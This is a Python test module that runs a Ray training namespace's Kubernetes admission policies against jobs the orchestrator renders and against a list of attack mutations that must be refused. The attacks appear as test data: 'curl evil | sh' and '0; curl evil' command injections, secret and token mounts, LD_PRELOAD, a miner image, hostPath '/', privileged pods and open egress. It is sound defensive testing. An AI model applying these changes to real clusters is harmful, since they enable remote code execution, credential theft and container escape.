"""The admission policies of deploy/k8s/base/admission, evaluated (CEL, in cel-python) on what
`orchestrator k8s render` writes, which they admit, and on the attacks a submitter could make,
which they refuse. kubernetes-validate checks the policy objects themselves (test_k8s.py)."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest
from k8s_admission import Request, admit, denials
from k8s_fixtures import deploy_dir, overlays, variants  # noqa: F401 (fixtures)
from k8s_util import OWNER, by_kind, one

Obj = dict[str, Any]


@pytest.fixture(scope="module")
def policies(overlays: dict[str, list[Obj]]) -> list[Obj]:
    found = by_kind(overlays["dev"], "ValidatingAdmissionPolicy")
    bindings = {b["spec"]["policyName"]: b for b in by_kind(overlays["dev"], "ValidatingAdmissionPolicyBinding")}
    assert {p["metadata"]["name"] for p in found} == set(bindings)
    for binding in bindings.values():
        assert binding["spec"]["validationActions"] == ["Deny"]
        assert binding["spec"]["matchResources"]["namespaceSelector"] == \
            {"matchLabels": {"kubernetes.io/metadata.name": "ray-training"}}
    assert all(p["spec"]["failurePolicy"] == "Fail" for p in found)
    return found


def job_objects(variants: dict[str, list[Obj]], name: str = "job-gpu-plan") -> dict[str, Obj]:
    return {o["kind"]: copy.deepcopy(o) for o in variants[name]}


def head(job: Obj) -> Obj:
    return job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]


def worker(job: Obj) -> Obj:
    return job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]


def set_path(path: str, value: Any) -> Callable[[Obj], None]:
    def change(job: Obj) -> None:
        *parents, last = path.split(".")
        node = job
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
        node[last] = value
    return change


# Each attack: what it does to a rendered RayJob. Every one is refused.
RAYJOB_ATTACKS: dict[str, Callable[[Obj], None]] = {
    "secret volume": lambda j: head(j)["volumes"].append({"name": "x", "secret": {"secretName": "ray-auth-token"}}),
    "projected token": lambda j: head(j)["volumes"].append(
        {"name": "x", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}),
    "hostPath": lambda j: worker(j)["volumes"].append({"name": "x", "hostPath": {"path": "/"}}),
    "pinned to a node": lambda j: worker(j).update(nodeName="gpu-node-7"),
    "another scheduler": lambda j: worker(j).update(schedulerName="my-scheduler"),
    "preempting priority": lambda j: head(j).update(priorityClassName="system-cluster-critical"),
    "another runtime": lambda j: head(j).update(runtimeClassName="runc-unsandboxed"),
    # with a nodeSelector, onto the control plane or another team's tainted pool
    "tolerates every taint": lambda j: worker(j).update(tolerations=[{"operator": "Exists"}]),
    "tolerates the control plane": lambda j: head(j).update(tolerations=[
        {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}]),
    "another job's ConfigMap": lambda j: head(j)["volumes"].append({"name": "x", "configMap": {"name": "bob-config"}}),
    "secretKeyRef to another Secret": lambda j: head(j)["containers"][0]["env"].append(
        {"name": "MLFLOW_TRACKING_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "ray-auth-token", "key": "auth_token"}}}),
    "MLflow Secret under another name": lambda j: head(j)["containers"][0]["env"].append(
        {"name": "LEAK", "valueFrom": {"secretKeyRef": {"name": "mlflow-job-credentials", "key": "MLFLOW_TRACKING_PASSWORD"}}}),
    "envFrom secretRef": lambda j: head(j)["containers"][0].update(envFrom=[{"secretRef": {"name": "ray-auth-token"}}]),
    "other env": lambda j: worker(j)["containers"][0]["env"].append({"name": "LD_PRELOAD", "value": "/mnt/shared/x.so"}),
    "head's service account": lambda j: head(j).update(serviceAccountName="ray-head"),
    "token mounted": lambda j: worker(j).update(automountServiceAccountToken=True),
    "submitter token": lambda j: j["spec"]["submitterPodTemplate"]["spec"].pop("automountServiceAccountToken"),
    "foreign image": lambda j: worker(j)["containers"][0].update(image="evil.example/miner:1"),
    "command": lambda j: head(j)["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
    "args": lambda j: worker(j)["containers"][0].update(args=["python -c 'import os'"]),
    "exec probe": lambda j: head(j)["containers"][0].update(readinessProbe={"exec": {"command": ["sh"]}}),
    "init container": lambda j: worker(j).update(initContainers=[dict(head(j)["containers"][0], name="x")]),
    "privileged": lambda j: worker(j)["containers"][0]["securityContext"].update(privileged=True),
    "capability": lambda j: worker(j)["containers"][0]["securityContext"].update(capabilities={"add": ["SYS_ADMIN"]}),
    "hostNetwork": lambda j: head(j).update(hostNetwork=True),
    "hostPort": lambda j: head(j)["containers"][0]["ports"].append({"containerPort": 22, "hostPort": 22}),
    "another job's storage": lambda j: [m.update(subPath="jobs/bob/victim") for m in head(j)["containers"][0]["volumeMounts"]
                                        if m["mountPath"] == "/mnt/shared"],
    "the volume's root": lambda j: [m.pop("subPath") for m in worker(j)["containers"][0]["volumeMounts"]
                                    if m["mountPath"] == "/mnt/shared"],
    "subPathExpr": lambda j: [m.update(subPathExpr="$(POD)") for m in worker(j)["containers"][0]["volumeMounts"]
                              if m["mountPath"] == "/mnt/shared"],
    "datasets writable": lambda j: [m.update(readOnly=False) for m in head(j)["containers"][0]["volumeMounts"]
                                    if m["mountPath"] == "/mnt/datasets"],
    "joins another job's network": lambda j: j["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"][
        "metadata"]["labels"].update({"ray-gpu-orchestrator/job": "victim"}),
    "autoscaler label": lambda j: j["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["metadata"]["labels"].update(
        {"ray-gpu-orchestrator/autoscaler": "true"}),
    "standing cluster's token": set_path("spec.rayClusterSpec.authOptions.secretName", "ray-auth-token"),
    "auth off": set_path("spec.rayClusterSpec.authOptions.mode", "disabled"),
    "autoscaler": set_path("spec.rayClusterSpec.enableInTreeAutoscaling", True),
    "existing cluster": set_path("spec.clusterSelector", {"ray.io/cluster": "ray"}),
    "entrypoint": set_path("spec.entrypoint", "python -c 'import os; os.system(\"id\")'"),
    "entrypoint without the config's digest": set_path(
        "spec.entrypoint", "orchestrator run /etc/orchestrator/job.yaml --workers 2"),
    "runtime env code": set_path("spec.runtimeEnvYAML", "working_dir: s3://evil/code.zip\n"),
    "shell in rayStartParams": set_path("spec.rayClusterSpec.headGroupSpec.rayStartParams.num-cpus", "0; curl evil"),
    "LoadBalancer": set_path("spec.rayClusterSpec.headGroupSpec.serviceType", "LoadBalancer"),
    # fields from which the operator adds to the pods or the namespace what the templates do not show
    "Secret as the GCS Redis password": set_path("spec.rayClusterSpec.gcsFaultToleranceOptions", {
        "redisAddress": "redis:6379",
        "redisPassword": {"valueFrom": {"secretKeyRef": {"name": "ray-auth-token", "key": "auth_token"}}}}),
    "shared volume as GCS storage": set_path("spec.rayClusterSpec.gcsFaultToleranceOptions", {
        "backend": "rocksdb", "storage": {"claimName": "ray-shared", "subPath": "jobs/bob/victim"}}),
    "operator-made egress": set_path("spec.rayClusterSpec.networkPolicy", {
        "head": {"egressRules": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]}}),
    "history server sidecar": set_path("spec.rayClusterSpec.historyServerOptions", {
        "collectorOptions": {"image": "evil.example/x:1", "envFrom": [{"secretRef": {"name": "ray-auth-token"}}]}}),
    "another controller": set_path("spec.managedBy", "kueue.x-k8s.io/multikueue"),
    "owner with a path": set_path("metadata.annotations", {"ray-gpu-orchestrator/owner": "../bob"}),
    # one directory name on the shared volume: longer than a filesystem allows (`k8s render` refuses it too)
    "owner too long": set_path("metadata.annotations", {"ray-gpu-orchestrator/owner": "b" * 254}),
}


def rendered_cases(variants: dict[str, list[Obj]]) -> list[tuple[Request, bool]]:
    cases = [(Request("CREATE", o, username=OWNER), False) for name, objs in variants.items()
             if name.startswith("job-") for o in objs]
    return cases + [(Request("UPDATE", o, old=o, username=OWNER), False) for o in variants["job-cpu"]]


def attack_cases(variants: dict[str, list[Obj]]) -> list[tuple[Request, bool]]:
    cases = []
    for change in RAYJOB_ATTACKS.values():
        job = job_objects(variants)["RayJob"]
        change(job)
        cases.append((Request("CREATE", job, username=OWNER), True))
    return cases


def owner_cases(variants: dict[str, list[Obj]]) -> list[tuple[Request, bool]]:
    objs = job_objects(variants)
    config = objs["ConfigMap"]
    rewritten = copy.deepcopy(config)
    rewritten["data"]["job.yaml"] = "checkpoint: {storage_path: /mnt/shared/../x}\n"
    unowned = copy.deepcopy(config)
    unowned["metadata"].pop("annotations")
    return [  # (request, refused)
        (Request("UPDATE", rewritten, old=config, username="mallory"), True),
        (Request("DELETE", old=config, username="mallory"), True),
        (Request("DELETE", old=objs["RayJob"], username="mallory"), True),
        (Request("DELETE", old=objs["NetworkPolicy"], username="mallory"), True),
        (Request("CREATE", config, username="mallory"), True),  # in someone else's name
        (Request("CREATE", unowned, username=OWNER), True),
        (Request("UPDATE", rewritten, old=config, username=OWNER), False),
        (Request("DELETE", old=objs["RayJob"], username=OWNER), False),
        # whoever may read Secrets (the operator, KubeRay, the garbage collector) is not limited
        (Request("DELETE", old=config, username="system:serviceaccount:kuberay-system:kuberay-operator",
                 privileged=True), False),
    ]


def network_cases(variants: dict[str, list[Obj]], overlays: dict[str, list[Obj]]) -> list[tuple[Request, bool]]:
    policy = job_objects(variants)["NetworkPolicy"]
    internet = copy.deepcopy(policy)
    internet["spec"]["egress"].append({"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]})
    anywhere = copy.deepcopy(policy)
    anywhere["spec"]["egress"].append({"ports": [{"port": 443}]})  # no `to`: every destination
    everyone = copy.deepcopy(policy)
    everyone["spec"]["podSelector"] = {}
    intruder = copy.deepcopy(policy)
    intruder["spec"]["ingress"][0]["from"][0]["podSelector"]["matchLabels"]["ray-gpu-orchestrator/job"] = "mine"
    other_namespace = copy.deepcopy(policy)
    other_namespace["spec"]["egress"][0]["to"][0]["namespaceSelector"] = {}
    default_deny = one([o for o in overlays["dev"] if o["metadata"].get("namespace") == "ray-training"],
                       "NetworkPolicy", "default-deny")
    emptied = copy.deepcopy(policy)
    emptied["metadata"] = default_deny["metadata"] | {"annotations": policy["metadata"]["annotations"]}
    cases = [(Request("CREATE", p, username=OWNER), True) for p in (internet, anywhere, everyone, intruder, other_namespace)]
    return cases + [
        (Request("DELETE", old=default_deny, username=OWNER), True),
        (Request("UPDATE", emptied, old=default_deny, username=OWNER), True),
        (Request("CREATE", policy, username=OWNER), False),
        (Request("DELETE", old=default_deny, username="operator", privileged=True), False),
    ]


@pytest.fixture(scope="module")
def outcomes(policies: list[Obj], variants: dict[str, list[Obj]], overlays: dict[str, list[Obj]]
             ) -> dict[str, list[tuple[Request, bool, dict[str, list[str]]]]]:
    """Every case of this module through the policies in one go (compiling CEL takes a while)."""
    groups = {"rendered": rendered_cases(variants), "attacks": attack_cases(variants),
              "owners": owner_cases(variants), "network": network_cases(variants, overlays)}
    flat = [case for cases in groups.values() for case in cases]
    results = iter(admit(policies, [request for request, _ in flat]))
    return {name: [(request, refused, next(results)) for request, refused in cases] for name, cases in groups.items()}


def test_rendered_objects_are_admitted(outcomes: dict[str, list[Any]]) -> None:
    for request, _, outcome in outcomes["rendered"]:
        assert outcome, f"no policy applies to {request.object['kind']}"
        assert not denials(outcome), (request.object["kind"], outcome)


def test_attacks_on_a_rayjob_are_refused(outcomes: dict[str, list[Any]]) -> None:
    admitted = [name for name, (_, _, outcome) in zip(RAYJOB_ATTACKS, outcomes["attacks"], strict=True)
                if not outcome.get("ray-training-rayjobs")]
    assert not admitted, f"admitted: {admitted}"
    # refused for the right reason, not only for what else the change breaks (the storage path)
    said = dict(zip(RAYJOB_ATTACKS, (o.get("ray-training-rayjobs") for _, _, o in outcomes["attacks"]), strict=True))
    for name in ("owner with a path", "owner too long"):
        assert any("must be your Kubernetes user name, at most 253 characters" in m for m in said[name]), said[name]


@pytest.mark.parametrize("group", ["owners", "network"])
def test_submitters_change_only_their_own_jobs_and_networks(group: str, outcomes: dict[str, list[Any]]) -> None:
    """Owners: nobody rewrites or deletes another user's job, config or policy. Network: no
    submitter's policy lets pods out of their job's group, nor removes the default deny."""
    for index, (request, refused, outcome) in enumerate(outcomes[group]):
        assert bool(denials(outcome)) == refused, (group, index, request.operation, request.username, outcome)
